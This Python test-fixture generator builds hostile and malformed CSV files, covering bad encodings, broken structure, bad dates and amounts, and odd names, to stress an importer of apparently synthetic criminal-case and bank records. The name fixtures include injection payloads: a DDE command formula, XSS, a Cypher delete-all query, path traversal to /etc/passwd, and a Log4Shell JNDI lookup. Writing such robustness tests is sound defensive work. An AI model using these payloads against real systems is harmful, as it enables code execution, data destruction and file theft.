"""Hostile and broken text tables: encodings, structure, dates, amounts and names."""

from __future__ import annotations

from collections.abc import Iterator

PERSONS = "案件编号,姓名,身份证号,涉案身份"
PERSON = "A9901,章一凡,990101199001010019,贩卖"
BANK = "交易卡号,交易时间,交易金额,收付标志,交易对手账卡号,对手户名"
SEIZURES = "案件编号,缴获日期,毒品种类,净重(克)"

File = tuple[str, bytes]


def texts() -> Iterator[File]:
    yield from _encodings()
    yield from _structure()
    yield from _values()
    yield from _names()


def _table(*rows: str, head: str = PERSONS) -> str:
    return "\n".join([head, *rows, ""])


def _encodings() -> Iterator[File]:
    text = _table(PERSON, PERSON.replace("章", "𠮷"))
    for encoding in (
        "utf-8",
        "utf-8-sig",
        "gb18030",
        "utf-16",
        "utf-16-le",
        "utf-16-be",
        "utf-32",
        "big5",
        "utf-7",
    ):
        yield f"encoding-{encoding}.csv", text.replace("𠮷", "章").encode(encoding, "replace")
    raw = text.encode()
    yield "encoding-mixed.csv", raw + PERSON.encode("gb18030") * 3 + b"\n" + raw
    yield "encoding-cut.csv", raw[:-7]
    yield "encoding-two-marks.csv", b"\xef\xbb\xbf\xef\xbb\xbf" + raw
    yield "encoding-mark-only.csv", b"\xef\xbb\xbf"
    yield "encoding-cesu.csv", raw.replace("章".encode(), b"\xed\xa0\x80\xed\xb0\x80")
    yield "encoding-random.csv", PERSONS.encode() + b"\n" + bytes(range(128, 256)) * 40
    yield "encoding-nul.csv", raw.replace("凡".encode(), b"\x00")
    yield "encoding-nul-only.csv", b"\x00" * 9000


def _structure() -> Iterator[File]:
    raw = _table(PERSON)
    shapes = {
        "empty": "",
        "spaces": "   \t ",
        "lines": "\n" * 500,
        "heading": PERSONS,
        "one-column": "姓名\n章一凡\n",
        "short-rows": _table("A1", "A1,章", PERSON),
        "long-rows": _table(PERSON + ",x,y,z", PERSON),
        "quote-open": _table('"' + PERSON, PERSON),
        "quote-inside": _table(PERSON.replace("章", '章"'), PERSON),
        "quote-end": raw + '"',
        "returns": raw.replace("\n", "\r"),
        "mixed-ends": raw.replace("\n", "\r\n\n\r"),
        "semicolons": raw.replace(",", ";"),
        "pipes": raw.replace(",", "|"),
        "mixed-marks": _table(PERSON.replace(",", "\t"), PERSON),
        "repeated": _table(*[PERSON, PERSONS] * 50),
        "late-heading": "\n" * 45 + raw,
        "wide": ",".join([PERSONS, *(f"列{n}" for n in range(5000))]) + "\n" + PERSON + "," * 5000,
        "ten-megabytes": _table(PERSON, "A1," + "长" * 3_400_000 + ",,x"),
        "one-line": "x" * 10_000_000,
        "endless-line": PERSONS + "\n" + "y" * (66 << 20),
        "blank-lines": raw + "\n" * 300_000,
        "trailing": _table(PERSON + "," * 30),
        "same-headings": _table("A1,甲,乙,丙", head="案件编号,姓名,姓名,姓名"),
        "broken-heading": _table(PERSON, head='案件编号,"姓\n名",身份证号,涉案身份'),
        "separators": _table(PERSON.replace("章", "章\u2028\u0085\x0b\x0c")),
        "only-commas": "," * 5000,
        "prose": "今天天气很好。\n" * 30,
        "log": "2024-03-05 21:00:00 INFO x\n" * 50,
        "ini": "[a]\nb=c\n",
    }
    for name, text in shapes.items():
        yield f"structure-{name}.csv", text.encode()


def _values() -> Iterator[File]:
    dates = (
        *(
            "1899-12-31",
            "2100-01-01",
            "9999-12-31",
            "0000-00-00",
            "2024-02-30",
            "2024-13-01",
            "12月3日",
            "1900-02-29",
        ),
        *(
            "２０２４年３月５日",
            "1e308",
            "99999999999999999999",
            "-1",
            "now",
            "=TODAY()",
            "2024-03-05T25:00:00",
            "下午",
        ),
    )
    for n, date in enumerate(dates):
        rows = (f'A9901,"{date}",冰毒,1.5', "A9901,2024-03-05,冰毒,1.5")
        yield f"date-{n:02}.csv", _table(*rows, head=SEIZURES).encode()
    amounts = (
        *(
            "1e308",
            "NaN",
            "inf",
            "-0",
            "1,234.50",
            "１２３．４５",
            "1.2.3",
            "0x10",
            "9" * 40,
            "￥",
            "壹佰元",
            "1e-400",
        ),
        *("--5", "5-", "+-5", "1 000", "50%", "=1+1", "-", "0"),
    )
    for n, amount in enumerate(amounts):
        rows = [
            f'6200990000000000119,2024-03-05 21:14:07,"{each}",出,6200990000000000127,季二水'
            for each in (amount, "300.00")
        ]
        yield f"amount-{n:02}.csv", _table(*rows, head=BANK).encode()


def _names() -> Iterator[File]:
    names = (
        *(
            '=cmd|"/c calc"!A1',
            "+1+1",
            "@SUM(A1)",
            "<script>alert(1)</script>",
            "'; MATCH (n) DETACH DELETE n //",
        ),
        *(
            "\u202e章",
            "章\u200d凡",
            "\ue000",
            "\ufffe",
            "𠮷",
            "e" + "\u0301" * 5000,
            "../../etc/passwd",
            "{{7*7}}",
        ),
        *(
            "\x1b[31m章",
            "章\x00凡",
            "章\ufffd",
            "🇨🇳",
            "%s%n",
            "${jndi:ldap://x.invalid}",
            "`x`",
            "\u3000",
            "ﷺ" * 300,
        ),
    )
    for n, name in enumerate(names):
        quoted = name.replace('"', '""')
        yield f"name-{n:02}.csv", _table(f'A9901,"{quoted}",990101199001010019,贩卖', PERSON).encode()
